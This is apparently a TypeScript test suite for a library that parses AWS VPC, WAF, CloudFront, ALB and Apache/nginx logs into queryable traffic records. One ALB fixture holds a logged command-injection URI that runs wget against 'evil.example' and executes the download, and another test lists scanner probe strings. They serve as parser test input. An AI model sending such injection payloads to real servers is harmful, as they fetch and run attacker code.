import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { query } from '../../lib/engine/query.js';
import type { OpenOptions } from '../../lib/load/open-options.js';
import { openTraffic } from '../../lib/load/open-traffic.js';
import { realData } from '../real-data.js';
import { openLocal } from './open-local.js';
import { written } from './written.js';

let files = 0;
async function read(content: string | Buffer, columns: string, options: OpenOptions = {}) {
  const traffic = await openTraffic(written(`log-${++files}`, content), options);
  const rows = await traffic.engine.query(`select ${columns} from traffic order by row_id`);
  return { rows: rows.map((row) => Object.values(row)), account: traffic.accounts[0]! };
}

const VPC = [
  '2 123456789010 eni-1 198.51.100.7 172.31.16.21 49152 443 6 20 4249 1418530010 1418530070 ACCEPT OK',
  '2 123456789010 eni-1 172.31.16.21 198.51.100.7 443 49152 6 30 90000 1418530012 1418530070 ACCEPT OK',
  '2 123456789010 eni-1 - - - - - - - 1431280876 1431280934 - NODATA',
  '2 123456789010 eni-1 - - - - - - - 1431280876 1431280934 - SKIPDATA',
  '2 123456789010 eni-1 203.0.113.12 172.31.16.139 0 0 1 4 336 1432917027 1432917142 REJECT OK',
];

test('VPC flow logs: both directions become one record, a lone half keeps its null, NODATA is skipped', async () => {
  const { rows, account } = await read(
    VPC.join('\n'),
    'src_ip, src_port, dst_ip, dst_port, bytes_in, bytes_out, packets, protocol, action, response_code, epoch(creation_time)::int',
  );
  assert.deepEqual(rows, [
    ['198.51.100.7', 49152, '172.31.16.21', 443, 4249n, 90000n, 50n, 'TCP', 'ACCEPT', null, 1418530010],
    ['203.0.113.12', 0, '172.31.16.139', 0, 336n, null, 4n, 'ICMP', 'REJECT', null, 1432917027],
  ]);
  const { units, records, rejects, mergedHalves, skipped, format } = account;
  assert.deepEqual(
    { units, records, rejects, mergedHalves, skipped, format },
    {
      units: 5,
      records: 2,
      rejects: 0,
      mergedHalves: 1,
      skipped: { NODATA: 1, SKIPDATA: 1 },
      format: 'aws-vpc-flow',
    },
  );
});

test('VPC flow logs: a custom format is read by its header line, and who sent the SYN is the client, whatever flow-direction says', async () => {
  const { rows, account } = await read(
    `srcaddr dstaddr srcport dstport bytes start end tcp-flags flow-direction
10.0.0.5 192.0.2.8 8443 80 70 1418530010 1418530070 2 egress
192.0.2.8 10.0.0.5 80 8443 30 1418530010 1418530070 16 ingress
10.0.0.5 192.0.2.8 8443 1418530010`,
    'src_ip, dst_port, bytes_in, bytes_out, tcp_flags',
  );
  assert.deepEqual(rows, [['10.0.0.5', 80, 70n, 30n, 18]]);
  assert.deepEqual(
    [account.units, account.rejects, account.mergedHalves, account.skipped.header],
    [4, 1, 1, 1],
  );
});

test('VPC flow logs: halves are paired in the order in which they began, and a protocol without a name keeps its number', async () => {
  const [there, back] = ['198.51.100.7 172.31.16.21 49152 443', '172.31.16.21 198.51.100.7 443 49152'];
  const half = (way: string, bytes: number, start: number) =>
    `2 123456789010 eni-1 ${way} 99 1 ${bytes} 14185300${start} 1418530070 ACCEPT OK`;
  const { rows } = await read(
    [half(there, 3, 30), half(there, 1, 10), half(back, 20, 22), half(there, 2, 20), half(back, 10, 12)].join(
      '\n',
    ),
    'bytes_in, bytes_out, epoch(creation_time)::int, protocol',
  );
  assert.deepEqual(
    rows.sort((a, b) => Number(a[2]) - Number(b[2])),
    [
      [1n, 10n, 1418530010, '99'],
      [2n, 20n, 1418530020, '99'],
      [3n, null, 1418530030, '99'],
    ],
  );
});

test('CloudWatch Logs: a message with line breaks is one line', async () => {
  const message = JSON.stringify({ src_ip: '192.0.2.1', creation_time: '2024-01-01T00:00:00Z' }, null, 2);
  const events = [message, message.replaceAll('\n', '\r\n')].map((text) => ({ message: text }));
  const { rows, account } = await read(JSON.stringify({ logEvents: events }), 'src_ip');
  assert.deepEqual(rows, [['192.0.2.1'], ['192.0.2.1']]);
  assert.deepEqual([account.format, account.units], ['json', 2]);
});

test('CloudWatch Logs: exports with a time before each message, envelopes, answers of the command line, Insights CSV', async () => {
  const events = VPC.map((message, id) => ({ id: String(id), timestamp: 1418530010000, message }));
  const envelope = JSON.stringify({ messageType: 'DATA_MESSAGE', logGroup: 'vpc', logEvents: events });
  const control = JSON.stringify({
    messageType: 'CONTROL_MESSAGE',
    logEvents: [{ id: '', timestamp: 1, message: 'CWL CONTROL MESSAGE: Checking health' }],
  });
  for (const [content, controls] of [
    [VPC.map((line) => `2014-12-14T04:06:50.000Z ${line}`).join('\n'), 0],
    [gzipSync(envelope), 0],
    [control + envelope, 1],
    [JSON.stringify({ events, nextToken: 'f/1' }, null, 2), 0],
    [`@timestamp,@message\n${VPC.map((line) => `2014-12-14 04:06:50.000,"${line}"`).join('\n')}`, 0],
  ] as const) {
    const { rows, account } = await read(content, 'bytes_in');
    assert.deepEqual(rows, [[4249n], [336n]]);
    assert.equal(account.units, 5 + controls);
    assert.equal(account.skipped['control message'] ?? 0, controls);
  }
});

const WAF = {
  timestamp: 1576280412771,
  webaclId: 'arn:aws:wafv2:ap-southeast-2:111122223333:regional/webacl/STMTest/1EXAMPLE',
  terminatingRuleId: 'Default_Action',
  action: 'ALLOW',
  httpSourceName: '-',
  ruleGroupList: [
    {
      ruleGroupId: 'g',
      terminatingRule: null,
      nonTerminatingMatchingRules: [{ ruleId: 'CountedBots', action: 'COUNT' }],
    },
  ],
  nonTerminatingMatchingRules: [{ ruleId: 'SQLi_XSS', action: 'COUNT' }],
  httpRequest: {
    clientIp: '198.51.100.1',
    country: 'AU',
    headers: [
      { name: 'Host', value: 'example.org' },
      { name: 'USER-AGENT', value: 'curl/7.61.1' },
      { name: 'X-Forwarded-For', value: '203.0.113.7, 192.0.2.9' },
    ],
    uri: '/foo',
    args: 'x=1',
    httpVersion: 'HTTP/1.1',
    httpMethod: 'GET',
  },
  labels: [{ name: 'awswaf:managed:aws:bot' }],
};

test('AWS WAF: Default_Action is no rule, matches and labels are, there are no byte counts', async () => {
  const blocked = {
    ...WAF,
    terminatingRuleId: 'BlockBad',
    nonTerminatingMatchingRules: [{ ruleId: 'BlockBad', action: 'COUNT' }],
    ruleGroupList: [],
    labels: undefined,
    action: 'BLOCK',
    responseCodeSent: 403,
  };
  const none = { ...WAF, nonTerminatingMatchingRules: [], ruleGroupList: [], labels: [] };
  const { rows } = await read(
    [WAF, blocked, none].map((entry) => JSON.stringify(entry)).join('\n'),
    'rule_names, action, response_code, bytes_in, src_ip, host, uri, user_agent, forwarded_for, source_name, src_ip_country_code',
  );
  const request = [
    null,
    '198.51.100.1',
    'example.org',
    '/foo?x=1',
    'curl/7.61.1',
    '203.0.113.7, 192.0.2.9',
    'STMTest',
    'AU',
  ];
  assert.deepEqual(rows, [
    ['SQLi_XSS, CountedBots, awswaf:managed:aws:bot', 'ALLOW', null, ...request],
    ['BlockBad', 'BLOCK', 403, ...request],
    [null, 'ALLOW', null, ...request],
  ]);
});

test('the client comes from X-Forwarded-For only behind proxies that were named, the last hop that is none of them', async () => {
  const line = JSON.stringify(WAF);
  const client = async (proxies: string[]) => (await read(line, 'src_ip', { proxies })).rows[0]?.[0];
  assert.equal(await client([]), '198.51.100.1');
  assert.equal(await client(['10.0.0.0/8']), '198.51.100.1');
  assert.equal(await client(['198.51.100.0/24']), '192.0.2.9');
  assert.equal(await client(['198.51.100.0/24', '192.0.2.9']), '203.0.113.7');
});

test('what is no address in X-Forwarded-For hides the hops before it, which may be made up', async () => {
  const headers = [{ name: 'X-Forwarded-For', value: '203.0.113.7, unknown' }];
  const line = JSON.stringify({ ...WAF, httpRequest: { ...WAF.httpRequest, headers } });
  const { rows } = await read(line, 'src_ip', { proxies: ['198.51.100.0/24'] });
  assert.deepEqual(rows, [['198.51.100.1']]);
});

test('CloudFront: comments are skipped, status 000 is kept, times are when the request began', async () => {
  const fields =
    'date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for c-port';
  const row =
    '2019-12-04 21:02:31 LAX1 392 192.0.2.100 GET d111.cloudfront.net /index.html 000 - Mozilla/5.0%20(Windows) a=b - Hit id example.org https 23 1.500 - 11040'
      .split(' ')
      .join('\t');
  const { rows, account } = await read(
    `#Version: 1.0\n#Fields: ${fields}\n${row}\n`,
    'src_ip, bytes_in, bytes_out, response_code, creation_time::varchar, end_time::varchar, host, uri, user_agent, protocol, src_port, action',
  );
  assert.deepEqual(rows, [
    [
      '192.0.2.100',
      23n,
      392n,
      0,
      '2019-12-04 21:02:29.5',
      '2019-12-04 21:02:31',
      'example.org',
      '/index.html?a=b',
      'Mozilla/5.0 (Windows)',
      'HTTPS',
      11040,
      'Hit',
    ],
  ]);
  assert.deepEqual(account.skipped, { comment: 2 });
});

test('AWS ALB: a record begins when the request came and ends when the log says, its port is that of the URL', async () => {
  const entry = (client: string, created: string) =>
    `h2 2018-07-02T22:23:00.186641Z app/my-lb/50dc6c49 ${client}:2817 10.0.1.252:48160 0.000 0.002 0.000 404 200 5 257 "GET https://10.0.2.105:773/a?b=c HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:tg "Root=1-58337327" "-" "-" 1 ${created} "waf,forward" "-" "-" "10.0.1.252:48160" "200" "-" "-"`;
  const { rows, account } = await read(
    [entry('192.168.131.39', '2018-07-02T22:22:48.364000Z'), entry('[2001:db8::1]', '-')].join('\n'),
    'src_ip, src_port, dst_ip, dst_port, bytes_in, bytes_out, creation_time::varchar, end_time::varchar, protocol, response_code, method, host, uri, user_agent, action, source_name',
  );
  const ended = '2018-07-02 22:23:00.186641';
  const request = [
    'H2',
    404,
    'GET',
    '10.0.2.105',
    '/a?b=c',
    'curl/7.46.0',
    'waf,forward',
    'app/my-lb/50dc6c49',
  ];
  assert.deepEqual(rows, [
    ['192.168.131.39', 2817, '10.0.1.252', 773, 5n, 257n, '2018-07-02 22:22:48.364', ended, ...request],
    ['2001:db8::1', 2817, '10.0.1.252', 773, 5n, 257n, ended, ended, ...request],
  ]);
  assert.equal(account.format, 'aws-alb');
});

test('Apache and nginx: the size is what was sent, - is no value, the last field is X-Forwarded-For', async () => {
  const { rows, account } = await read(
    [
      '192.0.2.1 - ann [10/Oct/2000:13:55:36 -0700] "GET /a?b=c HTTP/1.0" 200 2326',
      '192.0.2.2 - - [10/Oct/2000:13:55:36 +0000] "POST /form HTTP/1.1" 304 - "https://a.example/" "curl/8 \\"x\\"" "203.0.113.7"',
      '192.0.2.3 - - [10/Oct/2000:13:55:36 +0000] "-" 408 0 "-" "-"',
    ].join('\n'),
    'src_ip, creation_time::varchar, bytes_in, bytes_out, method, uri, protocol, response_code, referer, user_agent, forwarded_for',
  );
  assert.deepEqual(rows, [
    ['192.0.2.1', '2000-10-10 20:55:36', null, 2326n, 'GET', '/a?b=c', 'HTTP/1.0', 200, null, null, null],
    [
      ...['192.0.2.2', '2000-10-10 13:55:36', null, null, 'POST', '/form', 'HTTP/1.1', 304],
      ...['https://a.example/', 'curl/8 \\"x\\"', '203.0.113.7'],
    ],
    ['192.0.2.3', '2000-10-10 13:55:36', null, 0n, null, null, null, 408, null, null, null],
  ]);
  assert.equal(account.format, 'web-server');
});

test('AWS ALB: a uri may contain spaces and a host may be an IPv6 address; the reason of a classification is kept', async () => {
  const entry = (request: string, reason: string) =>
    `http 2024-04-25T23:10:02.186641Z app/shop/50dc 203.0.113.9:40112 - -1 -1 -1 301 - 310 5120 "${request}" "Hello, world" - - - "Root=1-66" "-" "-" 1 2024-04-25T23:10:02.150000Z "redirect" "-" "-" "-" "-" "Acceptable" "${reason}"`;
  const { rows, account } = await read(
    [
      entry('GET http://198.51.100.5:80/shell?cd+/tmp;wget+ evil.example/x;sh+/tmp/x HTTP/1.1', 'SpaceInUri'),
      entry('GET http://[2001:db8::1]:443/admin HTTP/1.1', '-'),
      entry('- http://shop.example.com:80- - ', '-'),
      entry('- - - ', '-'),
    ].join('\n'),
    'method, host, dst_port, uri, detection_types',
  );
  assert.deepEqual(rows, [
    ['GET', '198.51.100.5', 80, '/shell?cd+/tmp;wget+ evil.example/x;sh+/tmp/x', 'SpaceInUri'],
    ['GET', '[2001:db8::1]', 443, '/admin', null],
    [null, 'shop.example.com', 80, null, null],
    [null, null, null, null, null],
  ]);
  assert.deepEqual([account.records, account.rejects], [4, 0]);
});

test('Apache and nginx: what is no HTTP request is the uri as it was logged, and where none came there is none', async () => {
  const sent: readonly (readonly [request: string, method: string | null, uri: string | null])[] = [
    ['', null, null],
    ['-', null, null],
    ['- - HTTP/1.0', null, null],
    [
      '\\x03\\x00\\x00/*\\xE0\\x00Cookie: mstshash=Administr',
      null,
      '\\x03\\x00\\x00/*\\xE0\\x00Cookie: mstshash=Administr',
    ],
    ['MGLNDD_192.0.2.80_443', null, 'MGLNDD_192.0.2.80_443'],
    ['<SCRIPT>x</SCRIPT> / HTTP/1.1', null, '<SCRIPT>x</SCRIPT> / HTTP/1.1'],
    ['\\n', null, '\\n'],
    ['t3 12.1.2\\x0AAS:255', null, 't3 12.1.2\\x0AAS:255'],
    ['CONNECT 198.51.100.9:443 HTTP/1.1', 'CONNECT', '198.51.100.9:443'],
    ['GET /a b?c=d e HTTP/1.1', 'GET', '/a b?c=d e'],
    ['GET /', 'GET', '/'],
    ['OPTIONS * HTTP/1.1', 'OPTIONS', '*'],
    ['GET http://other.example/ HTTP/1.1', 'GET', 'http://other.example/'],
    ['get index.html HTTP/1.1', 'get', 'index.html'],
  ];
  const { rows, account } = await read(
    sent
      .map(([request]) => `203.0.113.9 - - [25/Apr/2024:23:10:02 +0000] "${request}" 400 0 "-" "-"`)
      .join('\n'),
    'method, uri',
  );
  assert.deepEqual(
    rows,
    sent.map(([, method, uri]) => [method, uri]),
  );
  assert.deepEqual([account.records, account.rejects], [14, 0]);
});

for (const [name, format, records, expected] of [
  ['amazon_elb__raw.log', 'aws-alb', 63, { n404: 61n, sources: 1n }],
  ['aws_waf__raw.log', 'aws-waf', 38, { n404: null, sources: null }],
  ['apache__raw.log', 'web-server', 10000, { n404: 213n, sources: 1753n }],
  ['nginx__raw.log', 'web-server', 1408, { n404: null, sources: null }],
] as const) {
  test(`openTraffic reads every line of ${name} as ${format}`, realData, async () => {
    const {
      engine: { connection },
      accounts,
    } = await openLocal(realData.file(`aws-samples/${name}`));
    assert.deepEqual(
      [accounts[0]?.format, accounts[0]?.units, accounts[0]?.records],
      [format, records, records],
    );
    const [row] = await query<{ n404: bigint; sources: bigint }>(
      connection,
      'select count_if(response_code = 404)::bigint as n404, count(distinct src_ip) as sources from traffic',
    );
    if (expected.n404 !== null) assert.equal(row?.n404, expected.n404);
    if (expected.sources !== null) assert.equal(row?.sources, expected.sources);
  });
}
